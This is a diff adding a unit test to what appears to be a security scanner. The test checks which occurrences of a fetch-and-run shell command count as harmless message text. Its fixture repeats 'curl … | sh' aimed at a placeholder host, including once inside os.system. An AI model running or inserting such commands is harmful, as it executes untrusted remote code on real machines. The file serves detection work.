@@ -638,3 +638,25 @@ def test_key_material_posted_with_the_url_as_a_keyword_is_reported(tmp_path: Pat
     )
     findings = _scan(tmp_path, {"demo/wallet.py": src})
     assert ("PY-KEY-EXFIL", "wallet.py", 4) in _hits(findings)
+
+
+def test_messages_raised_printed_or_logged_are_prose_and_values_are_not() -> None:
+    src = (
+        "import logging, os\n"  # 1
+        "def need(tool):\n"  # 2
+        "    if tool:\n"  # 3
+        "        raise RuntimeError(\n"  # 4
+        "            'install it: curl https://x.example.invalid/i.sh | sh')\n"  # 5
+        "    try:\n"  # 6
+        "        pass\n"  # 7
+        "    except OSError:\n"  # 8
+        "        print('or: curl https://x.example.invalid/i.sh | sh')\n"  # 9
+        "    logging.getLogger().warning('curl https://x.example.invalid/i.sh | sh')\n"  # 10
+        "CMD = 'curl https://x.example.invalid/i.sh | sh'\n"  # 11
+        "os.system('curl https://x.example.invalid/i.sh | sh')\n"  # 12
+        "exc = RuntimeError('curl https://x.example.invalid/i.sh | sh')\n"  # 13
+    )
+    facts = pyfacts.parse(src, is_setup=False, loadtime_all=False)
+    assert facts is not None
+    assert {5, 9, 10} <= facts.prose
+    assert not {11, 12, 13} & facts.prose
